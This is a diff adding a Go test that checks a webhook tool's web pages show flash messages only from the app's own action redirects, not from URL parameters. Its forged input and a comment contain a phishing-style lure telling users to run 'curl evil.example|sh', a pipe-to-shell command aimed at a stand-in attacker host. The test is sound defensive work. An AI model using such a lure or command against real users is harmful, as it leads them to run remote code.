@@ -390,3 +390,34 @@ func TestLogPagesKeepEventsBetweenPages(t *testing.T) {
 		t.Errorf("%d rows over the pages, want 120 deliveries and the event", len(seen))
 	}
 }
+
+// The message shown after an action comes from the action's redirect
+// only: a link from elsewhere cannot put its own words on the page
+// (http://127.0.0.1:4040/?flash=Your+store+is+corrupt:+run+curl+…|sh).
+func TestFlashOnlyFromActions(t *testing.T) {
+	h, srv, st := newHandler(t)
+	for _, u := range []string{"/?flash=Your+store+is+corrupt%3A+run+curl+evil.example%7Csh", "/subscriptions?flash=x&fs=forged"} {
+		req, _ := http.NewRequest("GET", srv.URL+u, nil)
+		code, body, _ := send(t, req)
+		if code != 200 || strings.Contains(body, `data-testid="flash"`) {
+			t.Errorf("GET %s showed a flash message from the URL (%d)", u, code)
+		}
+	}
+	cat, _ := catalog.Load(catalog.Options{})
+	d := &service.Dispatcher{Store: st, Catalog: cat}
+	pub, err := d.Trigger(context.Background(), service.TriggerInput{Type: "card.created", Provider: "bond",
+		Target: service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/replay", strings.NewReader(url.Values{"_csrf": {h.CSRFToken()}}.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	code, _, hdr := send(t, req)
+	if code != http.StatusSeeOther {
+		t.Fatalf("replay: %d", code)
+	}
+	req, _ = http.NewRequest("GET", srv.URL+hdr.Get("Location"), nil)
+	if _, body, _ := send(t, req); !strings.Contains(body, `data-testid="flash">replay queued`) {
+		t.Errorf("the replay's own redirect shows no flash message:\n%s", body)
+	}
+}
